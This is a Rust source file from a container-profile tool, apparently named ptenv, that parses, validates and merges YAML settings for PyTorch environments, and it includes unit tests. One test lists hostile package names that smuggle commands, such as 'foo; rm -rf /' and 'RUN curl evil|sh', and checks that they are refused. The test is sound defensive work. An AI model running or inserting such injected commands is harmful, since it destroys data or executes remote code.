struct Checked<F, T>(F, std::marker::PhantomData<T>);

impl<F, T> Checked<F, T>
where
    F: FnOnce(serde_yaml::Value) -> std::result::Result<T, serde_yaml::Error>,
{
    fn run<E: de::Error>(self, v: serde_yaml::Value) -> std::result::Result<T, E> {
        (self.0)(v).map_err(|e| E::custom(e.to_string()))
    }
}

impl<'de, F, T> de::Visitor<'de> for Checked<F, T>
where
    F: FnOnce(serde_yaml::Value) -> std::result::Result<T, serde_yaml::Error>,
{
    type Value = T;

    fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
        f.write_str("a value")
    }
    fn visit_bool<E: de::Error>(self, v: bool) -> std::result::Result<T, E> {
        self.run(serde_yaml::Value::Bool(v))
    }
    fn visit_i64<E: de::Error>(self, v: i64) -> std::result::Result<T, E> {
        self.run(serde_yaml::Value::Number(v.into()))
    }
    fn visit_u64<E: de::Error>(self, v: u64) -> std::result::Result<T, E> {
        self.run(serde_yaml::Value::Number(v.into()))
    }
    fn visit_f64<E: de::Error>(self, v: f64) -> std::result::Result<T, E> {
        self.run(serde_yaml::Value::Number(v.into()))
    }
    fn visit_str<E: de::Error>(self, v: &str) -> std::result::Result<T, E> {
        self.run(serde_yaml::Value::String(v.to_string()))
    }
    fn visit_unit<E: de::Error>(self) -> std::result::Result<T, E> {
        self.run(serde_yaml::Value::Null)
    }
    fn visit_seq<A: de::SeqAccess<'de>>(self, mut seq: A) -> std::result::Result<T, A::Error> {
        let mut items = Vec::new();
        while let Some(item) = seq.next_element::<serde_yaml::Value>()? {
            items.push(item);
        }
        self.run(serde_yaml::Value::Sequence(items))
    }
    fn visit_map<A: de::MapAccess<'de>>(self, mut map: A) -> std::result::Result<T, A::Error> {
        let mut m = serde_yaml::Mapping::new();
        while let Some((k, v)) = map.next_entry::<serde_yaml::Value, serde_yaml::Value>()? {
            m.insert(k, v);
        }
        self.run(serde_yaml::Value::Mapping(m))
    }
}

fn scalar_string(v: &serde_yaml::Value) -> Option<String> {
    match v {
        serde_yaml::Value::String(s) => Some(s.clone()),
        serde_yaml::Value::Number(n) => Some(n.to_string()),
        serde_yaml::Value::Bool(b) => Some(b.to_string()),
        _ => None,
    }
}

/// One layer of settings, as written in a file or given by flags. Every field is optional;
/// [`Layer::merge`] lays a higher layer over a lower one.
#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Layer {
    pub description: Option<String>,
    pub mode: Option<Mode>,
    #[serde(default, deserialize_with = "pytorch_version")]
    pub pytorch: Option<Version>,
    pub variant: Option<Variant>,
    pub cuda: Option<Version>,
    #[serde(default, deserialize_with = "image_ref")]
    pub image: Option<String>,
    #[serde(default, deserialize_with = "repository_name")]
    pub repository: Option<String>,
    pub pull: Option<PullPolicy>,
    pub gpus: Option<Gpus>,
    pub shm_size: Option<ShmSize>,
    pub ipc: Option<Ipc>,
    #[serde(default, deserialize_with = "ulimit_map")]
    pub ulimits: Option<BTreeMap<String, Ulimit>>,
    pub mounts: Option<Vec<Mount>>,
    pub env: Option<BTreeMap<EnvName, EnvValue>>,
    pub ports: Option<Vec<Port>>,
    #[serde(default, deserialize_with = "bind_address")]
    pub bind: Option<String>,
    pub packages: Option<Packages>,
    /// The project's dependency files (see `crate::dependencies`).
    pub dependencies: Option<crate::dependencies::Settings>,
    pub command: Option<Command>,
    pub ca_bundle: Option<String>,
    pub sudo: Option<bool>,
    pub kubernetes: Option<Kubernetes>,
    /// Only at the top level of a file: the profile `ptenv up` uses without a MODE.
    pub default: Option<String>,
    /// Only at the top level of a file: named profiles.
    pub profiles: Option<BTreeMap<String, Layer>>,
}

/// A string setting checked where it is written.
fn checked_string<'de, D: Deserializer<'de>>(
    d: D,
    check: fn(&str) -> std::result::Result<(), String>,
) -> std::result::Result<Option<String>, D::Error> {
    checked(d, |v| {
        let text = scalar_string(&v).ok_or_else(|| bad("expected a string"))?;
        check(&text).map_err(bad)?;
        Ok(Some(text))
    })
}

fn bind_address<'de, D: Deserializer<'de>>(d: D) -> std::result::Result<Option<String>, D::Error> {
    checked_string(d, |t| check_ip(t).map(drop))
}

fn repository_name<'de, D: Deserializer<'de>>(
    d: D,
) -> std::result::Result<Option<String>, D::Error> {
    checked_string(d, check_repository)
}

fn image_ref<'de, D: Deserializer<'de>>(d: D) -> std::result::Result<Option<String>, D::Error> {
    checked_string(d, check_image)
}

/// `ulimits:` with each name checked at its key.
fn ulimit_map<'de, D: Deserializer<'de>>(
    d: D,
) -> std::result::Result<Option<BTreeMap<String, Ulimit>>, D::Error> {
    #[derive(PartialEq, Eq, PartialOrd, Ord)]
    struct Name(String);
    impl<'de> Deserialize<'de> for Name {
        fn deserialize<D: Deserializer<'de>>(d: D) -> std::result::Result<Self, D::Error> {
            checked(d, |v| {
                let name = scalar_string(&v).ok_or_else(|| bad("a ulimit's name is a string"))?;
                check_ulimit_name(&name).map_err(bad)?;
                Ok(Name(name))
            })
        }
    }
    let map = BTreeMap::<Name, Ulimit>::deserialize(d)?;
    Ok(Some(map.into_iter().map(|(k, v)| (k.0, v)).collect()))
}

fn check_ulimit_name(name: &str) -> std::result::Result<(), String> {
    if ULIMIT_NAMES.contains(&name) {
        return Ok(());
    }
    let near = ULIMIT_NAMES
        .iter()
        .min_by_key(|n| strsim::levenshtein(name, n))
        .expect("non-empty");
    Err(format!(
        "`{name}` is not a ulimit (did you mean `{near}`? valid names: {})",
        ULIMIT_NAMES.join(", ")
    ))
}

fn check_image(image: &str) -> std::result::Result<(), String> {
    if image.trim().is_empty() || image.contains(char::is_whitespace) {
        Err(format!("`{image}` is not an image reference"))
    } else {
        Ok(())
    }
}

/// Every key a layer accepts, for "did you mean" suggestions.
pub const KEYS: [&str; 24] = [
    "description",
    "mode",
    "pytorch",
    "variant",
    "cuda",
    "image",
    "repository",
    "pull",
    "gpus",
    "shm_size",
    "ipc",
    "ulimits",
    "mounts",
    "env",
    "ports",
    "bind",
    "packages",
    "dependencies",
    "command",
    "ca_bundle",
    "sudo",
    "kubernetes",
    "default",
    "profiles",
];

impl Layer {
    /// Lay `over` on top of `self`: scalars are replaced; `env` and `ulimits` merge by key;
    /// `mounts` (by target), `ports` (by container port) and packages accumulate, the higher
    /// layer winning on the same key.
    pub fn merge(&mut self, over: &Layer) {
        macro_rules! replace {
            ($($f:ident),*) => { $( if over.$f.is_some() { self.$f = over.$f.clone(); } )* };
        }
        replace!(
            description,
            mode,
            pytorch,
            variant,
            cuda,
            image,
            repository,
            pull,
            gpus,
            bind,
            dependencies,
            command,
            ca_bundle,
            sudo
        );
        // shm_size and ipc decide the same thing (/dev/shm); the higher layer's choice wins.
        if over.ipc == Some(Ipc::Host) {
            self.ipc = Some(Ipc::Host);
        } else if over.shm_size.is_some() || over.ipc == Some(Ipc::Private) {
            self.ipc = Some(Ipc::Private);
        }
        if over.shm_size.is_some() {
            self.shm_size = over.shm_size;
        }
        if let Some(u) = &over.ulimits {
            self.ulimits
                .get_or_insert_with(BTreeMap::new)
                .extend(u.clone());
        }
        if let Some(e) = &over.env {
            self.env.get_or_insert_with(BTreeMap::new).extend(e.clone());
        }
        if let Some(m) = &over.mounts {
            let mine = self.mounts.get_or_insert_with(Vec::new);
            for mount in m {
                mine.retain(|x| x.target != mount.target);
                mine.push(mount.clone());
            }
        }
        if let Some(p) = &over.ports {
            let mine = self.ports.get_or_insert_with(Vec::new);
            for port in p {
                mine.retain(|x| x.container != port.container);
                mine.push(port.clone());
            }
        }
        if let Some(k) = &over.kubernetes {
            self.kubernetes
                .get_or_insert_with(Kubernetes::default)
                .merge(k);
        }
        if let Some(p) = &over.packages {
            let mine = self.packages.get_or_insert_with(Packages::default);
            for a in &p.apt {
                if !mine.apt.contains(a) {
                    mine.apt.push(a.clone());
                }
            }
            for a in &p.pip {
                if !mine.pip.contains(a) {
                    mine.pip.push(a.clone());
                }
            }
        }
    }

    /// The layer without its `default` and `profiles` keys: the settings it gives every profile.
    fn settings(&self) -> Layer {
        Layer {
            default: None,
            profiles: None,
            ..self.clone()
        }
    }
}

/// The fully resolved profile: every setting decided, nothing optional that has a default.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Profile {
    pub name: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub description: Option<String>,
    pub mode: Mode,
    pub pytorch: String,
    pub variant: Variant,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub cuda: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub image: Option<String>,
    pub repository: String,
    pub pull: PullPolicy,
    pub gpus: Gpus,
    /// `None` with `ipc: host`, where the host's /dev/shm is used and a size would be ignored.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub shm_size: Option<ShmSize>,
    pub ipc: Ipc,
    pub ulimits: BTreeMap<String, Ulimit>,
    pub mounts: Vec<Mount>,
    pub env: BTreeMap<String, String>,
    pub ports: Vec<Port>,
    /// The address published ports bind to on the host unless a port says otherwise.
    pub bind: String,
    pub packages: Packages,
    /// The profile's `dependencies:`; `None`: the files are found by convention.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub dependencies: Option<crate::dependencies::Settings>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub command: Option<Vec<String>>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub ca_bundle: Option<String>,
    /// Passwordless sudo for the container user ([`DEFAULT_SUDO`]).
    pub sudo: bool,
    pub workdir: String,
    #[serde(skip_serializing_if = "is_default")]
    pub kubernetes: Kubernetes,
}

impl Profile {
    /// The host port the user pinned for `container` (in a file or by flag), as opposed to one
    /// ptenv chose: the built-in profiles' defaults (ssh's 2222) move when taken; a pin never.
    pub fn pinned_host_port(&self, container: u16) -> Option<u16> {
        let port = self.ports.iter().find(|p| p.container == container)?;
        let builtin = builtin(self.mode);
        let chosen_by_ptenv = builtin.ports.iter().flatten().any(|b| b == port);
        port.host.filter(|_| !chosen_by_ptenv)
    }
}

fn is_default<T: Default + PartialEq>(v: &T) -> bool {
    *v == T::default()
}

/// Where the project is mounted in every container.
pub const WORKDIR: &str = "/workspace";
pub const DEFAULT_REPOSITORY: &str = "pytorch/pytorch";
pub const DEFAULT_PYTORCH: &str = "2.6";
/// The profile `ptenv up` starts when neither the command line nor a file names one.
pub const DEFAULT_PROFILE: &str = "jupyter";
/// The container user gets passwordless sudo unless a profile says `sudo: false`: as in a
/// dev container, `sudo apt-get install` must work in the environment. It also means anyone
/// with a shell in the container is root in it.
pub const DEFAULT_SUDO: bool = true;

/// Where a layer came from, for messages and `ptenv profiles`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Origin {
    BuiltIn,
    User(PathBuf),
    Project(PathBuf),
}

impl fmt::Display for Origin {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Origin::BuiltIn => f.write_str("built-in"),
            Origin::User(p) => write!(f, "user config {}", p.display()),
            Origin::Project(p) => write!(f, "project {}", p.display()),
        }
    }
}

/// A parsed profile file.
#[derive(Debug, Clone)]
pub struct Source {
    pub origin: Origin,
    pub layer: Layer,
}

/// Everything profiles are resolved from, lowest layer first (user, then project).
#[derive(Debug, Clone, Default)]
pub struct Sources {
    pub files: Vec<Source>,
}

const BUILTIN: [(Mode, &str); 3] = [
    (
        Mode::Jupyter,
        include_str!("../../../profiles/jupyter.yaml"),
    ),
    (Mode::Ssh, include_str!("../../../profiles/ssh.yaml")),
    (Mode::Shell, include_str!("../../../profiles/shell.yaml")),
];

/// The built-in profile of a mode, parsed from the YAML compiled into the binary.
pub fn builtin(mode: Mode) -> Layer {
    let (_, text) = BUILTIN
        .iter()
        .find(|(m, _)| *m == mode)
        .expect("every mode has a built-in profile");
    parse(text, Path::new(concat!("profiles/", "built-in")))
        .expect("built-in profiles are valid (checked by unit tests)")
}

/// Parse the text of a profile file. Errors name the file, line and column, and suggest the
/// nearest valid key or value.
pub fn parse(text: &str, path: &Path) -> Result<Layer> {
    if text.trim().is_empty() {
        return Ok(Layer::default());
    }
    let layer: Layer = serde_yaml::from_str(text).map_err(|e| yaml_error(&e, path))?;
    if let Some(profiles) = &layer.profiles {
        for (name, p) in profiles {
            check_name(name).map_err(|m| {
                Error::new(format!("{}: {m}", path.display()))
                    .hint("rename the profile under `profiles:`")
            })?;
            if p.profiles.is_some() || p.default.is_some() {
                return Err(Error::new(format!(
                    "{}: profile `{name}` contains `profiles` or `default`; those keys belong at the top level of the file",
                    path.display()
                ))
                .hint("move them to the top level, without indentation"));
            }
        }
    }
    Ok(layer)
}

fn check_name(name: &str) -> std::result::Result<(), String> {
    let ok = !name.is_empty()
        && name.len() <= 40
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
        && name
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphanumeric());
    if ok {
        Ok(())
    } else {
        Err(format!(
            "`{name}` is not a profile name: use letters, digits, `-` and `_` (at most 40), starting with a letter or digit"
        ))
    }
}

fn yaml_error(e: &serde_yaml::Error, path: &Path) -> Error {
    let text = e.to_string();
    // serde_yaml appends " at line L column C"; we put the place first, as compilers do.
    let message = match text.find(" at line ") {
        Some(i) => text[..i].to_string(),
        None => text.clone(),
    };
    let place = match e.location() {
        Some(l) => format!("{}:{}:{}", path.display(), l.line(), l.column()),
        None => path.display().to_string(),
    };
    let mut err = Error::new(format!("{place}: {}", shorten_expected(&message)));
    if let Some(hint) = suggestion(&message) {
        err = err.hint(hint);
    }
    err.hint(format!(
        "fix {} and run the command again; `ptenv init --force` writes a fresh commented example",
        path.display()
    ))
}

/// serde lists every valid key after "expected one of"; keep the message to one line and let
/// the hint name the closest key instead.
fn shorten_expected(message: &str) -> String {
    match message.find(", expected one of") {
        Some(i) if message.contains("unknown field") => message[..i].to_string(),
        _ => message.to_string(),
    }
}

/// For "unknown field `x`, expected one of `a`, `b`" (and "unknown variant"), the nearest of
/// the expected words.
fn suggestion(message: &str) -> Option<String> {
    // serde_yaml puts the path of the value first: "profiles.a.mode: unknown variant `x`, …".
    let start = message
        .find("unknown field")
        .or_else(|| message.find("unknown variant"))?;
    let message = &message[start..];
    let is_field = message.starts_with("unknown field");
    let words: Vec<&str> = message.split('`').skip(1).step_by(2).collect();
    let (given, expected) = words.split_first()?;
    let (best, distance) = expected
        .iter()
        .map(|w| (*w, strsim::levenshtein(given, w)))
        .min_by_key(|(_, d)| *d)?;
    let what = if is_field { "key" } else { "value" };
    if distance <= 3.max(given.len() / 3) {
        Some(format!("did you mean `{best}`?"))
    } else {
        Some(format!("valid {what}s: {}", expected.join(", ")))
    }
}

/// The project's profile file.
pub const PROJECT_FILE: &str = "ptenv.yaml";

/// The largest profile file ptenv reads. Real ones are a few KiB; YAML aliases can make a
/// small file expand, and a huge one is a mistake or an attack, so it is refused unread.
pub const MAX_FILE_BYTES: u64 = 1 << 20;

/// A profile file's bytes as a layer: refused when larger than [`MAX_FILE_BYTES`] (the reader
/// passes one byte more than that, to tell a too-large file without reading all of it) or not
/// UTF-8, else parsed.
pub fn layer_from_bytes(bytes: Vec<u8>, path: &Path) -> Result<Layer> {
    if bytes.len() as u64 > MAX_FILE_BYTES {
        return Err(Error::new(format!(
            "{} is larger than {} MiB; ptenv does not read profile files that large",
            path.display(),
            MAX_FILE_BYTES >> 20
        ))
        .hint("a ptenv.yaml holds settings, not data: check that this is the file you meant"));
    }
    let text = String::from_utf8(bytes).map_err(|_| {
        Error::new(format!("{} is not UTF-8 text", path.display()))
            .hint("save it as UTF-8 and run the command again")
    })?;
    parse(&text, path)
}

/// A profile name and where it is defined, for `ptenv profiles`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Listed {
    pub name: String,
    pub mode: Option<Mode>,
    pub origins: Vec<String>,
    pub description: Option<String>,
    pub is_default: bool,
}

impl Sources {
    /// Two different profile names must not become the same container name (`Train` and
    /// `train`, `a_b` and `a-b`): their environments would take over each other's container.
    pub fn check_names(&self) -> Result<()> {
        let mut seen: Vec<(String, String, String)> = Mode::ALL
            .iter()
            .map(|m| (slug(m.as_str()), m.to_string(), Origin::BuiltIn.to_string()))
            .collect();
        for source in &self.files {
            for name in source.layer.profiles.iter().flatten().map(|(n, _)| n) {
                let key = slug(name);
                match seen.iter().find(|(k, _, _)| *k == key) {
                    Some((_, other, _)) if other == name => {}
                    Some((_, other, where_)) => {
                        return Err(Error::new(format!(
                            "{}: profile `{name}` and profile `{other}` ({where_}) would share the container name `…-{key}`",
                            source.origin
                        ))
                        .hint("rename one of them; profile names that differ only in case or in `-`/`_` name the same container"))
                    }
                    None => seen.push((key, name.clone(), source.origin.to_string())),
                }
            }
        }
        Ok(())
    }

    /// Whether the project's file gives profile `name` a setting (at its top level or in the
    /// profile itself): for settings that may not vouch for the user's credentials when a
    /// project file wrote them.
    pub fn project_sets(&self, name: &str, set: impl Fn(&Layer) -> bool) -> bool {
        self.files
            .iter()
            .filter(|s| matches!(s.origin, Origin::Project(_)))
            .flat_map(|s| {
                let named = s.layer.profiles.as_ref().and_then(|p| p.get(name));
                std::iter::once(&s.layer).chain(named)
            })
            .any(set)
    }

    /// The profile `ptenv up` uses without a MODE: the project's `default`, else the user's,
    /// else [`DEFAULT_PROFILE`].
    pub fn default_name(&self) -> String {
        self.files
            .iter()
            .rev()
            .find_map(|s| s.layer.default.clone())
            .unwrap_or_else(|| DEFAULT_PROFILE.to_string())
    }

    /// Every profile available, built-ins first, with the layers that shape it: the built-in,
    /// each file whose top-level settings apply to every profile, each file that names it.
    pub fn list(&self) -> Vec<Listed> {
        let default = self.default_name();
        let mut out: Vec<Listed> = Mode::ALL
            .iter()
            .map(|m| Listed {
                name: m.to_string(),
                mode: Some(*m),
                origins: vec![Origin::BuiltIn.to_string()],
                description: builtin(*m).description,
                is_default: false,
            })
            .collect();
        for source in &self.files {
            for (name, layer) in source.layer.profiles.iter().flatten() {
                let entry = match out.iter_mut().position(|l| &l.name == name) {
                    Some(i) => &mut out[i],
                    None => {
                        out.push(Listed {
                            name: name.clone(),
                            mode: None,
                            origins: Vec::new(),
                            description: None,
                            is_default: false,
                        });
                        out.last_mut().expect("just pushed")
                    }
                };
                if layer.mode.is_some() {
                    entry.mode = layer.mode;
                }
                if layer.description.is_some() {
                    entry.description = layer.description.clone();
                }
            }
        }
        for l in &mut out {
            l.is_default = l.name == default;
            for source in &self.files {
                let top = source.layer.settings() != Layer::default();
                let named = source
                    .layer
                    .profiles
                    .as_ref()
                    .is_some_and(|p| p.contains_key(&l.name));
                match (top, named) {
                    (_, true) => l.origins.push(source.origin.to_string()),
                    (true, false) => l.origins.push(format!("{} (top level)", source.origin)),
                    (false, false) => {}
                }
            }
        }
        out
    }

    /// `name` is a profile here (built-in or in a file) or one of `also` (e.g. the profiles of
    /// the project's existing containers); else the error names the nearest ones.
    pub fn check_defined(&self, name: &str, also: &[String]) -> Result<()> {
        let mut names: Vec<String> = self.list().into_iter().map(|l| l.name).collect();
        for a in also {
            if !names.contains(a) {
                names.push(a.clone());
            }
        }
        if names.iter().any(|n| n == name) {
            return Ok(());
        }
        let mut err = Error::new(format!("there is no profile named `{name}`"));
        if let Some(near) = names.iter().min_by_key(|n| strsim::levenshtein(name, n)) {
            if strsim::levenshtein(name, near) <= 2 {
                err = err.hint(format!("did you mean `{near}`?"));
            }
        }
        Err(err.hint(format!(
            "available profiles: {} (see `ptenv profiles`); define new ones under `profiles:` in {PROJECT_FILE}",
            names.join(", ")
        )))
    }

    /// Resolve profile `name` with `flags` on top: built-in of its mode → each file's top-level
    /// settings and its profile `name` → flags.
    pub fn resolve(&self, name: &str, flags: &Layer) -> Result<Profile> {
        fn named<'a>(s: &'a Source, name: &str) -> Option<&'a Layer> {
            s.layer.profiles.as_ref().and_then(|p| p.get(name))
        }
        let builtin_mode = Mode::ALL.iter().copied().find(|m| m.as_str() == name);
        self.check_defined(name, &[])?;

        let mut stack: Vec<Layer> = Vec::new();
        for s in &self.files {
            stack.push(s.layer.settings());
            if let Some(p) = named(s, name) {
                stack.push(p.clone());
            }
        }
        stack.push(flags.clone());
        // The mode decides the built-in base: the highest layer that names one, else the
        // built-in of the same name, else an error.
        let mode = stack
            .iter()
            .rev()
            .find_map(|l| l.mode)
            .or(builtin_mode)
            .ok_or_else(|| {
                Error::new(format!("profile `{name}` does not say which mode it is"))
                    .hint("add `mode: jupyter`, `mode: ssh` or `mode: shell` to it")
            })?;
        let mut merged = builtin(mode);
        for layer in &stack {
            merged.merge(layer);
        }
        merged.mode = Some(mode);
        finish(name, merged)
    }
}

/// Turn a merged layer into a profile: fill defaults and check what single layers cannot.
fn finish(name: &str, l: Layer) -> Result<Profile> {
    let ipc = l.ipc.unwrap_or(Ipc::Private);
    // Values from files were checked where they are written; `--repository` and `--image`
    // come from the command line.
    let bind = l.bind.clone().unwrap_or_else(|| "127.0.0.1".to_string());
    if let Some(repo) = &l.repository {
        check_repository(repo).map_err(|m| Error::new(format!("profile `{name}`: {m}")))?;
    }
    if let Some(image) = &l.image {
        check_image(image).map_err(|m| Error::new(format!("profile `{name}`: {m}")))?;
    }
    Ok(Profile {
        name: name.to_string(),
        description: l.description,
        mode: l.mode.expect("resolve sets the mode"),
        pytorch: l
            .pytorch
            .map(|v| v.0)
            .unwrap_or_else(|| DEFAULT_PYTORCH.to_string()),
        variant: l.variant.unwrap_or(Variant::Runtime),
        cuda: l.cuda.map(|v| v.0),
        image: l.image,
        repository: l
            .repository
            .unwrap_or_else(|| DEFAULT_REPOSITORY.to_string()),
        pull: l.pull.unwrap_or(PullPolicy::Missing),
        gpus: l.gpus.unwrap_or(Gpus::All),
        shm_size: match ipc {
            Ipc::Host => None,
            Ipc::Private => Some(l.shm_size.unwrap_or(ShmSize::Auto)),
        },
        ipc,
        ulimits: l.ulimits.unwrap_or_default(),
        mounts: l.mounts.unwrap_or_default(),
        env: l
            .env
            .unwrap_or_default()
            .into_iter()
            .map(|(k, v)| (k.0, v.0))
            .collect(),
        ports: l.ports.unwrap_or_default(),
        bind,
        packages: l.packages.unwrap_or_default(),
        dependencies: l.dependencies,
        command: l.command.map(|c| c.0),
        ca_bundle: l.ca_bundle,
        sudo: l.sudo.unwrap_or(DEFAULT_SUDO),
        workdir: WORKDIR.to_string(),
        kubernetes: l.kubernetes.unwrap_or_default(),
    })
}

/// A repository is an image name without a tag: `pytorch/pytorch`,
/// `registry.example.com/team/pytorch`, `127.0.0.1:5000/pytorch/pytorch`.
fn check_repository(repo: &str) -> std::result::Result<(), String> {
    let last = repo.rsplit('/').next().unwrap_or(repo);
    let ok = !repo.is_empty()
        && !repo.contains(char::is_whitespace)
        && !repo.contains('@')
        && !last.contains(':')
        && !repo.ends_with('/');
    if ok {
        Ok(())
    } else {
        Err(format!(
            "`repository: {repo}` must be an image name without a tag, like `pytorch/pytorch` or `registry.example.com/team/pytorch` (ptenv chooses the tag; pin one with `image:`)"
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn project(text: &str) -> Sources {
        Sources {
            files: vec![Source {
                origin: Origin::Project(PathBuf::from("ptenv.yaml")),
                layer: parse(text, Path::new("ptenv.yaml")).unwrap(),
            }],
        }
    }

    fn err(text: &str) -> Error {
        parse(text, Path::new("ptenv.yaml")).unwrap_err()
    }

    #[test]
    fn hostile_package_names_are_refused_with_the_file_and_the_value() {
        for (key, name) in [
            ("apt", "--allow-unauthenticated"),
            ("apt", "foo; rm -rf /"),
            ("apt", "a\nRUN curl evil|sh"),
            ("pip", "-e git+https://evil.example/x.git"),
            ("pip", "--index-url=http://evil"),
            ("pip", "a\nRUN curl evil|sh"),
        ] {
            let text = format!(
                "profiles:\n  t:\n    mode: shell\n    packages: {{{key}: [ok1, {}]}}\n",
                serde_json::to_string(name).unwrap()
            );
            let e = err(&text).to_string();
            assert!(e.starts_with("ptenv.yaml:4:"), "{e}");
            assert!(e.contains(&format!("{name:?}")), "{e}");
        }
        let p = project("packages: {apt: [git, \"libc6:amd64=2.36-9\"], pip: [\"numpy>=2\", \"black[jupyter] ~= 24.1\"]}\n")
            .resolve("shell", &Layer::default())
            .unwrap();
        assert_eq!(p.packages.apt, ["git", "libc6:amd64=2.36-9"]);
        assert_eq!(p.packages.pip, ["numpy>=2", "black[jupyter] ~= 24.1"]);
    }

    #[test]
    fn sudo_is_on_unless_a_layer_turns_it_off() {
        let on = Sources::default()
            .resolve("shell", &Layer::default())
            .unwrap();
        assert!(on.sudo);
        let off = project("sudo: false\n")
            .resolve("jupyter", &Layer::default())
            .unwrap();
        assert!(!off.sudo);
        let again = project("sudo: false\nprofiles:\n  t:\n    mode: shell\n    sudo: true\n")
            .resolve("t", &Layer::default())
            .unwrap();
        assert!(again.sudo);
    }

    #[test]
    fn builtins_parse_and_resolve() {
        for m in Mode::ALL {
            let p = Sources::default()
                .resolve(m.as_str(), &Layer::default())
                .unwrap();
            assert_eq!(p.mode, m);
            assert_eq!(p.pytorch, "2.6");
            assert_eq!(p.variant, Variant::Runtime);
            assert_eq!(p.repository, "pytorch/pytorch");
            assert_eq!(p.pull, PullPolicy::Missing);
            assert_eq!(p.gpus, Gpus::All);
            assert_eq!(p.shm_size, Some(ShmSize::Auto));
            assert_eq!(p.bind, "127.0.0.1");
            assert_eq!(p.workdir, "/workspace");
            assert_eq!(p.ulimits["memlock"], Ulimit { soft: -1, hard: -1 });
            assert_eq!(
                p.ulimits["stack"],
                Ulimit {
                    soft: 67108864,
                    hard: 67108864
                }
            );
            assert!(builtin(m).description.is_some());
        }
        let j = Sources::default()
            .resolve("jupyter", &Layer::default())
            .unwrap();
        assert_eq!(
            j.ports,
            vec![Port {
                container: 8888,
                host: None,
                bind: None
            }]
        );
        let s = Sources::default()
            .resolve("ssh", &Layer::default())
            .unwrap();
        assert_eq!(
            s.ports,
            vec![Port {
                container: 22,
                host: Some(2222),
                bind: None
            }]
        );
        let sh = Sources::default()
            .resolve("shell", &Layer::default())
            .unwrap();
        assert!(sh.ports.is_empty());
    }

    #[test]
    fn layers_apply_lowest_first() {
        let user = Source {
            origin: Origin::User(PathBuf::from("config.yaml")),
            layer: parse(
                "repository: registry.example.com/team/pytorch\nshm_size: 4g\nenv: {A: user, B: user}\n",
                Path::new("config.yaml"),
            )
            .unwrap(),
        };
        let proj = Source {
            origin: Origin::Project(PathBuf::from("ptenv.yaml")),
            layer: parse(
                "shm_size: 8g\nenv: {B: project}\nprofiles:\n  jupyter:\n    env: {C: profile}\n    pytorch: 2.7\n",
                Path::new("ptenv.yaml"),
            )
            .unwrap(),
        };
        let sources = Sources {
            files: vec![user, proj],
        };
        let flags = Layer {
            pytorch: Some(Version("2.6".into())),
            ..Layer::default()
        };
        let p = sources.resolve("jupyter", &flags).unwrap();
        assert_eq!(p.repository, "registry.example.com/team/pytorch");
        assert_eq!(p.shm_size, Some(ShmSize::Bytes(8 << 30)));
        assert_eq!(p.env["A"], "user");
        assert_eq!(p.env["B"], "project");
        assert_eq!(p.env["C"], "profile");
        assert_eq!(p.pytorch, "2.6", "flags beat the file");
        let p = sources.resolve("jupyter", &Layer::default()).unwrap();
        assert_eq!(p.pytorch, "2.7", "a float in YAML is read as a version");
        // Other profiles get the top-level settings but not jupyter's.
        let s = sources.resolve("shell", &Layer::default()).unwrap();
        assert!(!s.env.contains_key("C"));
        assert_eq!(s.env["B"], "project");
    }

    #[test]
    fn named_profiles_take_the_builtin_of_their_mode() {
        let s = project("default: train\nprofiles:\n  train:\n    mode: ssh\n    gpus: [0, 1]\n    ports: [6006]\n");
        assert_eq!(s.default_name(), "train");
        let p = s.resolve("train", &Layer::default()).unwrap();
        assert_eq!(p.mode, Mode::Ssh);
        assert_eq!(p.gpus, Gpus::Devices(vec!["0".into(), "1".into()]));
        assert_eq!(
            p.ports.len(),
            2,
            "the ssh port stays and 6006 is added: {:?}",
            p.ports
        );
        let listed = s.list();
        let train = listed.iter().find(|l| l.name == "train").unwrap();
        assert!(train.is_default);
        assert_eq!(train.mode, Some(Mode::Ssh));
        assert_eq!(train.origins, vec!["project ptenv.yaml"]);
    }

    #[test]
    fn the_list_names_every_file_that_changes_a_profile() {
        let s = Sources {
            files: vec![
                Source {
                    origin: Origin::User(PathBuf::from("config.yaml")),
                    layer: parse("shm_size: 4g\n", Path::new("c")).unwrap(),
                },
                Source {
                    origin: Origin::Project(PathBuf::from("ptenv.yaml")),
                    layer: parse(
                        "default: train\nprofiles: {train: {mode: shell}}\n",
                        Path::new("p"),
                    )
                    .unwrap(),
                },
            ],
        };
        let listed = s.list();
        let origins = |name: &str| {
            listed
                .iter()
                .find(|l| l.name == name)
                .unwrap()
                .origins
                .clone()
        };
        // `default:` alone changes no profile's settings.
        assert_eq!(
            origins("jupyter"),
            ["built-in", "user config config.yaml (top level)"]
        );
        assert_eq!(
            origins("train"),
            ["user config config.yaml (top level)", "project ptenv.yaml"]
        );
        let s = project("gpus: none\nprofiles: {train: {mode: shell}}\n");
        let listed = s.list();
        let shell = listed.iter().find(|l| l.name == "shell").unwrap();
        assert_eq!(
            shell.origins,
            ["built-in", "project ptenv.yaml (top level)"]
        );
    }

    #[test]
    fn a_profile_without_mode_is_an_error() {
        let s = project("profiles:\n  train:\n    gpus: all\n");
        let e = s.resolve("train", &Layer::default()).unwrap_err();
        assert!(e.message.contains("does not say which mode"), "{e}");
        assert!(e.hints[0].contains("mode: jupyter"));
    }

    #[test]
    fn unknown_profile_suggests_the_nearest() {
        let e = Sources::default()
            .resolve("jupiter", &Layer::default())
            .unwrap_err();
        assert!(e.message.contains("no profile named `jupiter`"));
        assert_eq!(e.hints[0], "did you mean `jupyter`?");
    }

    #[test]
    fn ipc_host_drops_the_shm_size_and_higher_layers_can_undo_it() {
        let s = project("ipc: host\n");
        let p = s.resolve("shell", &Layer::default()).unwrap();
        assert_eq!(p.ipc, Ipc::Host);
